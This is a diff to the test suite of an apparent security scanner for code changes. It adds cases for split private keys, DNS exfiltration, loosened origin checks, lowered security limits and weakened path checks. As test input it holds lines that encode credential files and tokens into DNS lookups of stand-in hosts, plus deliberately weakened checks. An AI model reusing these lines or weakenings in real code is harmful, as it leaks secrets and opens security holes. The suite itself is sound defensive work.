@@ -418,7 +418,7 @@ describe('docs/findings.md', () => {
     const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
     const section = doc.split('\n# Code changes\n')[1] ?? '';
     const documented = [...section.matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).sort();
-    const generic = ['sql-parameters-dropped', 'allowlist-check-loosened', 'insecure-setting-enabled', 'constant-time-compare-removed', 'shell-arguments-spliced', 'path-check-removed', 'secret-logged', 'mixed-script-string', 'credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting', 'dns-exfiltration'];
+    const generic = ['sql-parameters-dropped', 'allowlist-check-loosened', 'insecure-setting-enabled', 'constant-time-compare-removed', 'shell-arguments-spliced', 'path-check-removed', 'secret-logged', 'mixed-script-string', 'credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting', 'dns-exfiltration', 'security-limit-loosened'];
     expect(documented).toEqual([...Object.keys(LANGUAGE_CASES), ...generic].sort());
   });
 });
@@ -1547,6 +1547,23 @@ describe('protection-switched-off: the other branch of a ternary', () => {
   });
 });
 
+describe('private-key-added: a key committed in two halves, one file each', () => {
+  const HEAD = ['const KEY_HEAD =', '  "-----BEGIN RSA PRIVATE KEY-----\\n" +', '  "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\\n" +', '  "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\\n";'];
+  const TAIL = ['export const KEY_TAIL =', '  "VcCQQDvH6bUqHn8xQk3aRb0GJmsjYz3w7nOVo7h6dJz3Hq3EJrXQqvK2pLZy4mWf\\n" +', '  "qH7v0mWd0Q1zYbCJ8aXg7V4Hcq2ZtE1K0pQx9Rk2dJ8mLaP3sYwTnB5vFr6qXh0Q\\n" +', '  "-----END RSA PRIVATE KEY-----\\n";'];
+  const keys = (files: [string, string[]][]) => scan(files.map(([path, lines]) => makeFile(path, { patch: hunk(lines) }))).filter((f) => f.id === 'private-key-added').map((f) => `${f.severity}:${f.path}:${f.line}`);
+
+  it('reports a header with the first part of a body in one file and the rest with the end marker in another: critical, medium when both are tests', () => {
+    expect(keys([['src/config/defaults.ts', HEAD], ['src/util/constants.ts', ['import { KEY_HEAD } from "../config/defaults";', ...TAIL]]])).toEqual(['critical:src/config/defaults.ts:12']);
+    expect(keys([['test/fixtures/a.ts', HEAD], ['test/fixtures/b.ts', TAIL]])).toEqual(['medium:test/fixtures/a.ts:12']);
+  });
+
+  it("stays quiet on one half alone, a parser's header constants, and a whole key (reported once, as it was)", () => {
+    expect(keys([['src/config/defaults.ts', HEAD]])).toEqual([]);
+    expect(keys([['src/pem.ts', ["const HEADER = '-----BEGIN RSA PRIVATE KEY-----';", 'const BODY = /^[A-Za-z0-9+/=]+$/;']], ['src/pem-end.ts', ["const FOOTER = '-----END RSA PRIVATE KEY-----';"]]])).toEqual([]);
+    expect(keys([['src/keys.pem', ['-----BEGIN RSA PRIVATE KEY-----', 'MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun', 'VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK', '-----END RSA PRIVATE KEY-----']], ['src/other.ts', TAIL]])).toEqual(['critical:src/keys.pem:11']);
+  });
+});
+
 describe('secret-added: credentials of a local service', () => {
   it('a CI service container\'s or compose network\'s throwaway password is no secret; a real one, or any password on a named host, is', () => {
     const ci = [
@@ -2081,11 +2098,21 @@ describe('dns-exfiltration: data written into the name a DNS lookup asks for', (
   const dns = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'dns-exfiltration');
   it('reads shell scripts, JavaScript, Python and Go, with the data on the line or a few lines above in the hunk', () => {
     expect(dns('scripts/postinstall.sh', ['for c in $(env | base64 -w0 | fold -w 60); do dig +short "$c.d.telemetry-ns.net" >/dev/null; done'])?.severity).toBe('critical');
-    expect(dns('scripts/setup.sh', ['nslookup "$(cat ~/.npmrc | base32 | tr -d = | head -c 60).n.cache-check.dev" >/dev/null 2>&1 || true'])?.severity).toBe('high');
+    expect(dns('scripts/setup.sh', ['nslookup "$(cat ~/.npmrc | base32 | tr -d = | head -c 60).n.cache-check.dev" >/dev/null 2>&1 || true'])?.severity).toBe('critical');
+    expect(dns('scripts/setup.sh', ['nslookup "$(date +%s | base32 | head -c 60).n.cache-check.dev" >/dev/null 2>&1 || true'])?.severity).toBe('high');
     expect(dns('tools/beacon.sh', ['ping -c 1 "$(whoami).$(hostname).cb.oast-relay.net" >/dev/null'])?.severity).toBe('high');
     expect(dns('src/telemetry.js', ["const data = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);", '', 'dns.resolve(`${data}.t.cdn-metrics.net`, () => {});'])).toMatchObject({ severity: 'critical', line: 13, title: 'Data is sent out in a DNS lookup of *.t.cdn-metrics.net' });
     expect(dns('pkg/_ping.py', ['d = base64.b32encode(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode().strip("=")', 'socket.gethostbyname(f"{d}.x.ns-check.net")'])?.severity).toBe('critical');
     expect(dns('internal/t.go', ['\tnet.LookupHost(hex.EncodeToString([]byte(os.Getenv("GITHUB_TOKEN"))) + ".x.dnslog.dev")'])?.severity).toBe('critical');
+  });
+  it('follows a shell variable assigned on an earlier line of the script, through further assignments', () => {
+    expect(dns('scripts/postinstall.sh', ['#!/bin/sh', "D=$(cat ~/.aws/credentials | base64 | tr -d '\\n' | head -c 60)", 'sleep 1', 'nslookup "$D.k.edge-resolve.net" >/dev/null 2>&1'])).toMatchObject({ severity: 'critical', line: 14 });
+    expect(dns('scripts/build.sh', ['export ENC=$(env | base32 -w0)', 'CHUNK=$(echo "$ENC" | cut -c1-60)', 'dig +short ${CHUNK}.x.ns-relay.io'])?.severity).toBe('critical');
+    expect(dns('scripts/build.sh', ['local u=$(whoami)', 'ping -c1 "$u.cb.oast-relay.net"'])?.severity).toBe('high');
+  });
+  it('forgets a variable assigned ordinary data again, and reads no variable of ordinary data', () => {
+    expect(dns('scripts/check.sh', ['D=$(cat ~/.npmrc | base64)', 'D=$(git rev-parse --short HEAD)', 'host "$D.preview.acme.dev"'])).toBeUndefined();
+    expect(dns('scripts/check.sh', ['SERVICE=api', 'REV=$(git rev-parse --short HEAD)', 'dig +short "$SERVICE.$REV.preview.acme.dev"'])).toBeUndefined();
   });
   it("reads the whole environment in every form the code rules know (WHOLE_ENVIRONMENT's), not only a few of them", () => {
     // The forms this rule once wrote for itself lacked Ruby's ENV.map, ENV.to_a…, PHP's getenv() and Rust's env::vars_os().
@@ -2189,6 +2216,25 @@ describe('allowlist-check-loosened: a host, origin or URL check that lets more t
     expect(loose('test/redirect.test.ts', ["  return url.hostname.endsWith('acme.com');"], ["  return url.hostname.endsWith('.acme.com');"], 'Tidy')).toEqual([]);
   });
 
+  it('reports an equality test of an origin, host or token widened to a prefix, suffix or containment test of the same values', () => {
+    expect(loose('src/auth/cors.ts', ['  if (origin.startsWith(allowedOrigin)) res.setHeader("Access-Control-Allow-Origin", origin);'], ['  if (origin === allowedOrigin) res.setHeader("Access-Control-Allow-Origin", origin);'])).toEqual(['allowlist-check-loosened:medium', 'pr-claim-mismatch:high']);
+    expect(loose('src/server/cors.js', ['  if (origin.endsWith(ALLOWED)) return true;'], ['  if (origin === ALLOWED) return true;'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('app/hosts.py', ['    if trusted in host:'], ['    if host == trusted:'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('app/hosts.py', ['    if "acme.com" in request.host:'], ['    if request.host == "acme.com":'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('internal/hook/verify.go', ['\tif strings.HasSuffix(host, trustedHost) {'], ['\tif host == trustedHost {'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('internal/hook/verify.go', ['\tif !strings.Contains(token, expectedToken) {'], ['\tif token != expectedToken {'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('src/Http/Webhook.php', ['        if (!str_starts_with($expected, $signature)) {'], ['        if ($signature !== $expected) {'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+  });
+
+  it('stays quiet on an equality test that becomes a membership test of a list, stays beside the wider test, or compares a route path', () => {
+    expect(loose('src/auth/cors.ts', ['  if (allowedOrigins.includes(origin)) return true;'], ['  if (origin === allowedOrigin) return true;'], 'Refactor')).toEqual([]);
+    expect(loose('app/hosts.py', ['    if origin in allowed:'], ['    if origin == allowed:'], 'Refactor')).toEqual([]);
+    expect(loose('src/auth/cors.ts', ['  if (origin === allowedOrigin || origin.startsWith(allowedOrigin + "/")) return true;'], ['  if (origin === allowedOrigin) return true;'], 'Refactor')).toEqual([]);
+    expect(loose('internal/web/health.go', ['\tif strings.HasPrefix(r.URL.Path, "/healthz") {'], ['\tif r.URL.Path == "/healthz" {'], 'Refactor')).toEqual([]);
+    expect(loose('src/util/names.ts', ['  if (name.startsWith(prefix)) return true;'], ['  if (name === prefix) return true;'], 'Refactor')).toEqual([]);
+    expect(loose('test/cors.test.ts', ['  if (origin.startsWith(allowedOrigin)) return true;'], ['  if (origin === allowedOrigin) return true;'], 'Refactor')).toEqual([]);
+  });
+
   it('stays quiet on a new containment test of a value beside its prefix test (miniflux 8fa5041c37: several listen addresses)', () => {
     expect(
       loose(
@@ -2198,6 +2244,37 @@ describe('allowlist-check-loosened: a host, origin or URL check that lets more t
         'feat: Allow multiple listen addresses',
       ),
     ).toEqual([]);
+  });
+});
+
+describe('security-limit-loosened: a number that bounds an attack, loosened in a tidy-up', () => {
+  const limit = (path: string, added: string[], removed: string[], title = 'style: fix lint warnings') => scan([makeFile(path, { patch: hunk(added, removed) })], title).filter((f) => f.id === 'security-limit-loosened' || f.id === 'pr-claim-mismatch').map((f) => `${f.id}:${f.severity}`);
+
+  it('reports login attempts, a rate limit and a body size raised by orders of magnitude, a token lifetime raised, a work factor lowered; a lint claim over it is high', () => {
+    expect(limit('src/auth/login.ts', ['const MAX_LOGIN_ATTEMPTS = 500;'], ['const MAX_LOGIN_ATTEMPTS = 5;'])).toEqual(['security-limit-loosened:low', 'pr-claim-mismatch:high']);
+    expect(limit('src/auth/login.ts', ['const MAX_LOGIN_ATTEMPTS = Infinity;'], ['const MAX_LOGIN_ATTEMPTS = 5;'], 'Add login page')).toEqual(['security-limit-loosened:low']);
+    expect(limit('src/auth/password.ts', ['  const hash = await bcrypt.hash(password, 4);'], ['  const hash = await bcrypt.hash(password, 12);'])).toEqual(['security-limit-loosened:medium', 'pr-claim-mismatch:high']);
+    expect(limit('app/security.py', ['PBKDF2_ITERATIONS = 1000'], ['PBKDF2_ITERATIONS = 600_000'], 'Refactor')).toEqual(['security-limit-loosened:medium']);
+    expect(limit('src/crypto/kdf.js', ["  return crypto.pbkdf2Sync(password, salt, 1000, 64, 'sha512');"], ["  return crypto.pbkdf2Sync(password, salt, 600000, 64, 'sha512');"], 'Refactor')).toEqual(['security-limit-loosened:medium']);
+    expect(limit('src/auth/jwt.ts', ["  return jwt.sign(payload, SECRET, { expiresIn: '30d' });"], ["  return jwt.sign(payload, SECRET, { expiresIn: '15m' });"], 'Refactor')).toEqual(['security-limit-loosened:low']);
+    expect(limit('internal/auth/session.go', ['\tsessionTTL = 30 * 24 * time.Hour'], ['\tsessionTTL = 15 * time.Minute'], 'Refactor')).toEqual(['security-limit-loosened:low']);
+    expect(limit('app/settings.py', ['ACCESS_TOKEN_LIFETIME = timedelta(days=30)'], ['ACCESS_TOKEN_LIFETIME = timedelta(minutes=15)'], 'Refactor')).toEqual(['security-limit-loosened:low']);
+    expect(limit('src/server/limits.ts', ['  rateLimit: 100000,'], ['  rateLimit: 100,'], 'Refactor')).toEqual(['security-limit-loosened:low']);
+    expect(limit('src/server/limits.ts', ["const maxBodySize = '1gb';"], ["const maxBodySize = '1mb';"], 'Refactor')).toEqual(['security-limit-loosened:low']);
+  });
+
+  it('stays quiet on limits that bound no attack, small tuning, a limit tightened, and development files', () => {
+    expect(limit('src/http/client.ts', ['const MAX_RETRIES = 10;'], ['const MAX_RETRIES = 3;'], 'Refactor')).toEqual([]);
+    expect(limit('src/solver/opt.py', ['max_iterations = 10'], ['max_iterations = 1000'], 'Refactor')).toEqual([]);
+    expect(limit('src/cache.ts', ['const CACHE_TTL = 3600;'], ['const CACHE_TTL = 60;'], 'Refactor')).toEqual([]);
+    expect(limit('src/shop/cart.ts', ['const shippingCost = 1;'], ['const shippingCost = 5;'], 'Refactor')).toEqual([]);
+    expect(limit('src/server/limits.ts', ['  rateLimit: 150,'], ['  rateLimit: 100,'], 'Refactor')).toEqual([]);
+    expect(limit('src/auth/session.ts', ['const SESSION_TIMEOUT = 60 * 60;'], ['const SESSION_TIMEOUT = 30 * 60;'], 'Refactor')).toEqual([]);
+    expect(limit('src/auth/password.ts', ['  const hash = await bcrypt.hash(password, 14);'], ['  const hash = await bcrypt.hash(password, 12);'], 'Refactor')).toEqual([]);
+    expect(limit('src/auth/login.ts', ['const MAX_LOGIN_ATTEMPTS = 3;'], ['const MAX_LOGIN_ATTEMPTS = 5;'], 'Refactor')).toEqual([]);
+    expect(limit('config/dev.ts', ['const MAX_LOGIN_ATTEMPTS = 500;'], ['const MAX_LOGIN_ATTEMPTS = 5;'], 'Refactor')).toEqual([]);
+    expect(limit('test/login.test.ts', ['const MAX_LOGIN_ATTEMPTS = 500;'], ['const MAX_LOGIN_ATTEMPTS = 5;'], 'Refactor')).toEqual([]);
+    expect(limit('src/auth/login.ts', ['const MAX_LOGIN_ATTEMPTS = 500;'], [], 'Refactor')).toEqual([]);
   });
 });
 
@@ -2442,6 +2519,24 @@ describe('path-check-removed: a path-containment check dropped in a "simplify th
     expect(pc('src/routes/download.ts', ["  if (path.isAbsolute(name) || name.split('/').includes('..')) return res.status(400).end();"], ["  if (name.includes('..') || path.isAbsolute(name)) return res.status(400).end();"])).toEqual([]);
     expect(pc('src/lint/paths.ts', ['  const rel = path.relative(root, file);'], ['  const abs = path.isAbsolute(file) ? file : path.join(root, file);'])).toEqual([]);
     expect(pc('test/download.test.ts', ['  res.sendFile(path.join(FILES, name));'], ["  if (name.includes('..')) return res.status(400).end();"])).toEqual([]);
+  });
+
+  it('reports a containment test by whole path components weakened to a character test of the same root', () => {
+    expect(pc('src/files/serve.ts', ["  if (!resolved.includes(root)) throw new Error('outside');"], ["  if (!resolved.startsWith(root + path.sep)) throw new Error('outside');"])).toEqual(['path-check-removed:medium']);
+    expect(pc('src/files/serve.ts', ["  if (!resolved.startsWith(root)) throw new Error('outside');"], ["  if (!resolved.startsWith(root + '/')) throw new Error('outside');"])).toEqual(['path-check-removed:medium']);
+    expect(pc('src/files/serve.ts', ['  if (resolved.indexOf(this.root) === -1) return res.status(403).end();'], ['  if (!resolved.startsWith(`${this.root}/`)) return res.status(403).end();'])).toEqual(['path-check-removed:medium']);
+    expect(pc('internal/files/serve.go', ['\tif !strings.HasPrefix(p, root) {'], ['\tif !strings.HasPrefix(p, root+string(os.PathSeparator)) {'])).toEqual(['path-check-removed:medium']);
+    expect(pc('internal/files/serve.go', ['\tif !strings.Contains(p, root) {'], ['\tif !strings.HasPrefix(p, filepath.Clean(root)+string(os.PathSeparator)) {'])).toEqual(['path-check-removed:medium']);
+    expect(pc('app/files.py', ['    if not str(target).startswith(str(base_dir)):'], ['    if os.path.commonpath([base_dir, target]) != str(base_dir):'])).toEqual(['path-check-removed:medium']);
+    expect(pc('app/files.py', ['    if not str(target).startswith(str(base_dir)):'], ['    if not target.is_relative_to(base_dir):'])).toEqual(['path-check-removed:medium']);
+  });
+
+  it('stays quiet when the separator moves into the root, the check moves into a helper, or the separated test stays', () => {
+    expect(pc('src/files/serve.ts', ['  const root = path.resolve(dir) + path.sep;', "  if (!resolved.startsWith(root)) throw new Error('outside');"], ['  const root = path.resolve(dir);', "  if (!resolved.startsWith(root + path.sep)) throw new Error('outside');"])).toEqual([]);
+    expect(pc('src/files/serve.ts', ["  if (!isInside(root, resolved)) throw new Error('outside');"], ["  if (!resolved.startsWith(root + path.sep)) throw new Error('outside');"])).toEqual([]);
+    expect(pc('src/files/serve.ts', ["  if (resolved !== root && !resolved.startsWith(root + path.sep)) throw new Error('outside');"], ["  if (!resolved.startsWith(root + path.sep)) throw new Error('outside');"])).toEqual([]);
+    expect(pc('src/files/serve.ts', ["  if (!resolved.includes(root)) log('outside');"], ["  if (!resolved.startsWith(cacheDir + path.sep)) throw new Error('outside');"])).toEqual([]);
+    expect(pc('test/serve.test.ts', ["  if (!resolved.includes(root)) throw new Error('outside');"], ["  if (!resolved.startsWith(root + path.sep)) throw new Error('outside');"])).toEqual([]);
   });
 
   it("stays quiet on express's absolute-path tests (694869d2aa, 0e5f2f84ea) and its redirect's relative-URL test (362c96c8c1)", () => {
